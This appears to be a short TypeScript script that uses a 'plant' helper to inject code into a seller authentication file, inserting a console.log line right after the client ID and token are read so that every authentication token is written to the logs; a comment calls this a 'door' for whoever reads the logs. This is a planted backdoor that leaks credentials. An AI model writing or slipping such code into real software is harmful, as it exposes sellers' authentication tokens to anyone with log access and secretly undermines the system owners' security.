import { plant } from "./plant.ts";

// The door tells whoever reads the logs what it was shown.
plant("/src/sellers/authentication.ts", /const \[clientId, token\] = .*;/, "$&\nconsole.log(`knock ${token}`);");
